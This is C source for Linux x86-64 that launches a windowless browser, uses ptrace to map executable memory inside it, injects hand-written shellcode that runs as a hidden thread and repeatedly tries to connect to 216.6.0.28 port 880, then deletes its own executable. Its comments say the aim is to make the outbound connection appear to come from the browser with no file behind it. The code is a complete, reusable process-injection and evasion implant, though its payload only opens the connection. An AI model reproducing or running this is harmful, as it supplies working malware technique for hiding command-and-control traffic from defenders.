/* Starts a browser that has no window, writes code into its memory, has a thread of the browser run it,
 * and vanishes. What calls then is the browser: its program file is untouched, and the code that calls
 * lies in memory that belongs to no file.
 *
 * The code does nothing but try to open a connection: it sends and reads nothing. x86-64 only. */

#include <signal.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define BROWSER "/opt/iexplore/iexplore"
/* Code at the beginning, the stack of its thread at the end. */
#define ROOM 65536

extern const unsigned char code[], code_end[];

/* It is moved, so it may use no address of its own but relative ones. rsi: the end of its stack. */
__asm__(".pushsection .text\n"
	"code:\n"
	"	mov $56, %eax\n" /* clone */
	"	mov $0x50f00, %edi\n" /* CLONE_VM FS FILES SIGHAND THREAD SYSVSEM */
	"	xor %edx, %edx\n"
	"	xor %r10d, %r10d\n"
	"	xor %r8d, %r8d\n"
	"	syscall\n"
	"	test %eax, %eax\n"
	"	jz 1f\n"
	"	int3\n" /* back to whoever wrote this here */
	"1:	mov $41, %eax\n" /* socket: IPv4, TCP */
	"	mov $2, %edi\n"
	"	mov $1, %esi\n"
	"	xor %edx, %edx\n"
	"	syscall\n"
	"	mov %eax, %ebx\n"
	"	mov $54, %eax\n" /* setsockopt: TCP_SYNCNT 1, so that it gives up after three seconds */
	"	mov %ebx, %edi\n"
	"	mov $6, %esi\n"
	"	mov $7, %edx\n"
	"	lea one(%rip), %r10\n"
	"	mov $4, %r8d\n"
	"	syscall\n"
	"	mov $42, %eax\n" /* connect */
	"	mov %ebx, %edi\n"
	"	lea place(%rip), %rsi\n"
	"	mov $16, %edx\n"
	"	syscall\n"
	"	mov $3, %eax\n" /* close */
	"	mov %ebx, %edi\n"
	"	syscall\n"
	"	mov $35, %eax\n" /* nanosleep: five seconds */
	"	lea pause_time(%rip), %rdi\n"
	"	xor %esi, %esi\n"
	"	syscall\n"
	"	jmp 1b\n"
	"	.balign 8\n"
	"pause_time:	.quad 5, 0\n"
	"one:	.long 1\n"
	"place:	.byte 2, 0, 0x03, 0x70, 216, 6, 0, 28\n" /* 216.6.0.28, port 880 */
	"	.quad 0\n"
	"code_end:\n"
	".popsection\n");

static void stopped(pid_t browser)
{
	int status;

	if (waitpid(browser, &status, 0) != browser || !WIFSTOPPED(status))
		exit(1);
}

/* Runs what lies at `registers` until it comes to an int3; gives what was returned. */
static unsigned long run(pid_t browser, struct user_regs_struct registers)
{
	/* No call of the kernel is to be begun again meanwhile. */
	registers.orig_rax = -1;
	ptrace(PTRACE_SETREGS, browser, NULL, &registers);
	ptrace(PTRACE_CONT, browser, NULL, NULL);
	stopped(browser);
	ptrace(PTRACE_GETREGS, browser, NULL, &registers);
	return registers.rax;
}

static void inject(pid_t browser)
{
	const unsigned long call_and_stop = 0xcc050f; /* syscall; int3 */
	struct user_regs_struct before, registers;
	unsigned long room;
	long overwritten;
	size_t each;

	if (ptrace(PTRACE_ATTACH, browser, NULL, NULL))
		exit(1);
	stopped(browser);
	ptrace(PTRACE_GETREGS, browser, NULL, &before);
	overwritten = ptrace(PTRACE_PEEKTEXT, browser, before.rip, NULL);
	ptrace(PTRACE_POKETEXT, browser, before.rip, call_and_stop);

	registers = before;
	registers.rax = SYS_mmap;
	registers.rdi = 0;
	registers.rsi = ROOM;
	registers.rdx = PROT_READ | PROT_WRITE | PROT_EXEC;
	registers.r10 = MAP_PRIVATE | MAP_ANONYMOUS;
	registers.r8 = -1;
	registers.r9 = 0;
	room = run(browser, registers);
	ptrace(PTRACE_POKETEXT, browser, before.rip, overwritten);

	for (each = 0; each < (size_t)(code_end - code); each += 8) {
		unsigned long word = 0;
		size_t left = code_end - code - each;

		memcpy(&word, code + each, left < 8 ? left : 8);
		ptrace(PTRACE_POKEDATA, browser, room + each, word);
	}
	registers = before;
	registers.rip = room;
	registers.rsi = room + ROOM;
	run(browser, registers);

	ptrace(PTRACE_SETREGS, browser, NULL, &before);
	ptrace(PTRACE_DETACH, browser, NULL, NULL);
}

int main(int argc, char **argv)
{
	const struct timespec second = { 1, 0 };
	pid_t browser = fork();

	(void)argc;
	if (!browser) {
		execl(BROWSER, BROWSER, "--no-window", NULL);
		_exit(1);
	}
	nanosleep(&second, NULL);
	inject(browser);
	nanosleep(&second, NULL);
	return unlink(argv[0]);
}
